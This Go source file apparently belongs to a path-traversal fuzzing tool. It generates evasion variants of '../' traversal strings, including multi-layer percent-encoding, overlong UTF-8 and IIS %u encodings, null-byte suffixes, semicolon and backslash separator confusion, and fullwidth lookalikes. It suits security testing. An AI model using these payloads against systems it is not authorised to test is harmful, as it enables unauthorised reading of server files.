package transform

import (
	"fmt"
	"strings"
)

func percentEncodeByte(b byte, upper bool) string {
	if upper {
		return fmt.Sprintf("%%%02X", b)
	}
	return fmt.Sprintf("%%%02x", b)
}

func percentEncodeAll(input string, upper bool) string {
	var sb strings.Builder
	for i := 0; i < len(input); i++ {
		sb.WriteString(percentEncodeByte(input[i], upper))
	}
	return sb.String()
}

// urlencodeAll percent-encodes every byte, both lower- and upper-hex
// variants.
func urlencodeAll(original string) []string {
	return []string{
		percentEncodeAll(original, false),
		percentEncodeAll(original, true),
	}
}

func percentEncodeMinimal(input string, upper bool) string {
	replacer := func(c byte) string {
		switch c {
		case '.', '/', '\\':
			return percentEncodeByte(c, upper)
		default:
			return string(c)
		}
	}
	var sb strings.Builder
	for i := 0; i < len(input); i++ {
		sb.WriteString(replacer(input[i]))
	}
	return sb.String()
}

// urlencodeMinimal percent-encodes only the dot/slash/backslash separator
// bytes, both cases.
func urlencodeMinimal(original string) []string {
	return []string{
		percentEncodeMinimal(original, false),
		percentEncodeMinimal(original, true),
	}
}

// doubleEncode applies urlencode (lower) twice in succession.
func doubleEncode(original string) []string {
	once := percentEncodeAll(original, false)
	twice := percentEncodeAll(once, false)
	return []string{twice}
}

// tripleEncode applies urlencode (lower) three times in succession.
func tripleEncode(original string) []string {
	once := percentEncodeAll(original, false)
	twice := percentEncodeAll(once, false)
	thrice := percentEncodeAll(twice, false)
	return []string{thrice}
}

// mixedCase alternates upper/lower case on ASCII alphabetic characters.
func mixedCase(original string) []string {
	var sb strings.Builder
	upper := true
	for _, r := range original {
		if r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' {
			if upper {
				sb.WriteRune(toUpperASCII(r))
			} else {
				sb.WriteRune(toLowerASCII(r))
			}
			upper = !upper
		} else {
			sb.WriteRune(r)
		}
	}
	return []string{sb.String()}
}

func toUpperASCII(r rune) rune {
	if r >= 'a' && r <= 'z' {
		return r - 32
	}
	return r
}

func toLowerASCII(r rune) rune {
	if r >= 'A' && r <= 'Z' {
		return r + 32
	}
	return r
}

// mixedPercent alternates case within each %XX triplet it encounters,
// applied over a fully percent-encoded rendition of the input.
func mixedPercent(original string) []string {
	encoded := percentEncodeAll(original, false)
	var sb strings.Builder
	i := 0
	triplet := 0
	for i < len(encoded) {
		if encoded[i] == '%' && i+2 < len(encoded) {
			hex := encoded[i+1 : i+3]
			if triplet%2 == 0 {
				sb.WriteString("%" + strings.ToUpper(hex))
			} else {
				sb.WriteString("%" + strings.ToLower(hex))
			}
			triplet++
			i += 3
			continue
		}
		sb.WriteByte(encoded[i])
		i++
	}
	return []string{sb.String()}
}

// separator turns a single "/" into the classic separator-confusion
// variants.
func separator(original string) []string {
	if !strings.Contains(original, "/") {
		return nil
	}
	variants := []string{"//", "/./", "///", "/../"}
	out := make([]string, 0, len(variants))
	for _, v := range variants {
		out = append(out, strings.ReplaceAll(original, "/", v))
	}
	return out
}

// segmentConfusion mutates "../" (or bare "..") with a set of known
// normalizer-confusing variants.
func segmentConfusion(original string) []string {
	var out []string
	if strings.Contains(original, "../") {
		variants := []string{
			";../", "%3b../", ".%2e/", "%2e%2e/", "....//", "..././", "..%2f",
			"..;/", "..%00/",
		}
		for _, v := range variants {
			out = append(out, strings.ReplaceAll(original, "../", v))
		}
	}
	if strings.Contains(original, "..") {
		out = append(out,
			strings.ReplaceAll(original, "..", "%2e%2e"),
			strings.ReplaceAll(original, "..", "..%c0%af"),
		)
	}
	return out
}

// pathParams mutates "/" into path-parameter-confusion variants.
func pathParams(original string) []string {
	if !strings.Contains(original, "/") {
		return nil
	}
	return []string{
		strings.ReplaceAll(original, "/", "/;"),
		strings.ReplaceAll(original, "/", "/%3b"),
	}
}

// backslash mutates "/" into an encoded backslash.
func backslash(original string) []string {
	if !strings.Contains(original, "/") {
		return nil
	}
	return []string{strings.ReplaceAll(original, "/", "%5c")}
}

// separatorMixed alternates plain and encoded separators at every slash.
func separatorMixed(original string) []string {
	if !strings.Contains(original, "/") {
		return nil
	}
	var sb strings.Builder
	count := 0
	for i := 0; i < len(original); i++ {
		if original[i] == '/' {
			if count%2 == 0 {
				sb.WriteByte('/')
			} else {
				sb.WriteString("%2f")
			}
			count++
		} else {
			sb.WriteByte(original[i])
		}
	}
	return []string{sb.String()}
}

// slashBackslashMixed alternates plain "/" and "\" at even/odd slash
// positions, producing two variants (starting on / or starting on \).
func slashBackslashMixed(original string) []string {
	if !strings.Contains(original, "/") {
		return nil
	}
	variantA := replaceAlternating(original, '/', "/", "\\")
	variantB := replaceAlternating(original, '/', "\\", "/")
	return []string{variantA, variantB}
}

func replaceAlternating(input string, target byte, even, odd string) string {
	var sb strings.Builder
	count := 0
	for i := 0; i < len(input); i++ {
		if input[i] == target {
			if count%2 == 0 {
				sb.WriteString(even)
			} else {
				sb.WriteString(odd)
			}
			count++
		} else {
			sb.WriteByte(input[i])
		}
	}
	return sb.String()
}

// overlongUTF8 replaces ".", "/", "\" with overlong-UTF8 byte sequences,
// three historically effective variants.
func overlongUTF8(original string) []string {
	replacements := []struct{ dot, slash, back string }{
		{"%c0%ae", "%c0%af", "%c0%5c"},
		{"%c0%2e", "%c0%2f", "%c0%5c"},
		{"%e0%40%ae", "%e0%80%af", "%c0%80%5c"},
	}
	out := make([]string, 0, len(replacements))
	for _, r := range replacements {
		s := strings.ReplaceAll(original, ".", r.dot)
		s = strings.ReplaceAll(s, "/", r.slash)
		s = strings.ReplaceAll(s, "\\", r.back)
		out = append(out, s)
	}
	return out
}

// unicodeU applies the legacy IIS %uXXXX encoding to ".", "/", "\".
func unicodeU(original string) []string {
	s := strings.ReplaceAll(original, ".", "%u002e")
	s = strings.ReplaceAll(s, "/", "%u2215")
	s = strings.ReplaceAll(s, "\\", "%u2216")
	return []string{s}
}

// nullByteSuffixes appends null-byte-style suffixes, skipped when the
// input already contains a literal NUL.
func nullByteSuffixes(original string) []string {
	if strings.ContainsRune(original, 0) {
		return nil
	}
	suffixes := []string{"%00", "%2500", "%00.jpg", "%2500.jpg"}
	out := make([]string, 0, len(suffixes))
	for _, s := range suffixes {
		out = append(out, original+s)
	}
	return out
}

// dotsOnly percent-encodes only "." occurrences, both cases.
func dotsOnly(original string) []string {
	if !strings.Contains(original, ".") {
		return nil
	}
	return []string{
		strings.ReplaceAll(original, ".", "%2e"),
		strings.ReplaceAll(original, ".", "%2E"),
	}
}

// slashesOnly percent-encodes only "/" occurrences, both cases.
func slashesOnly(original string) []string {
	if !strings.Contains(original, "/") {
		return nil
	}
	return []string{
		strings.ReplaceAll(original, "/", "%2f"),
		strings.ReplaceAll(original, "/", "%2F"),
	}
}

// controlCharSeparators mutates "../" with control-character separators.
func controlCharSeparators(original string) []string {
	if !strings.Contains(original, "../") {
		return nil
	}
	variants := []string{"..%09/", "..%0a/", "..%0b/", "..%01/"}
	out := make([]string, 0, len(variants))
	for _, v := range variants {
		out = append(out, strings.ReplaceAll(original, "../", v))
	}
	return out
}

// multiLayerEncoding layers double/triple encoding on top of separator and
// segment-confusion mutations for a broader level-3 sweep.
func multiLayerEncoding(original string) []string {
	var out []string
	for _, v := range separator(original) {
		out = append(out, percentEncodeAll(v, false))
	}
	for _, v := range segmentConfusion(original) {
		out = append(out, percentEncodeMinimal(v, false))
	}
	return out
}

// advancedNullByteInjection appends a second "%00" to each null-byte
// suffix variant, plus injecting a null byte at the last separator position.
func advancedNullByteInjection(original string) []string {
	if strings.ContainsRune(original, 0) {
		return nil
	}
	var out []string
	for _, v := range nullByteSuffixes(original) {
		out = append(out, v+"%00")
	}
	idx := strings.LastIndex(original, "/")
	if idx >= 0 {
		out = append(out, original[:idx]+"%00"+original[idx:])
	}
	return out
}

// pathNormalizationAnomalies prefixes a protocol-relative "//" when the
// input is a traversal prefix.
func pathNormalizationAnomalies(original string) []string {
	if !strings.HasPrefix(original, "../") {
		return nil
	}
	return []string{"//" + original, "/." + original}
}

// mixedSlashTechniques alternates slash styles differently from
// separatorMixed, biasing toward leading-backslash variants.
func mixedSlashTechniques(original string) []string {
	if !strings.Contains(original, "/") {
		return nil
	}
	return []string{
		strings.ReplaceAll(original, "/", "\\/"),
		strings.ReplaceAll(original, "/", "/\\"),
	}
}

// protocolRelativeManipulation emits "//host"-style confusable prefixes.
func protocolRelativeManipulation(original string) []string {
	return []string{"//" + original, "/\\/" + original}
}

// rfc3986EdgeCases applies a fixed table of literal replacement edge
// cases drawn from RFC 3986 reserved/unreserved character confusions.
func rfc3986EdgeCases(original string) []string {
	replacements := [][2]string{
		{".", "%2e"}, {"/", "%2f"}, {"\\", "%5c"},
		{".", "%u002e"}, {"/", "%u2215"},
		{"..", "%2e%2e"}, {"../", "..%2f"}, {"../", "%2e%2e/"},
		{"../", "%2e%2e%2f"}, {"/", ";"}, {"/", "%3b"},
		{".", "．"}, {"/", "／"},
		{"../", "....//"}, {"../", "..\\/"},
	}
	out := make([]string, 0, len(replacements))
	for _, r := range replacements {
		if strings.Contains(original, r[0]) {
			out = append(out, strings.ReplaceAll(original, r[0], r[1]))
		}
	}
	return out
}
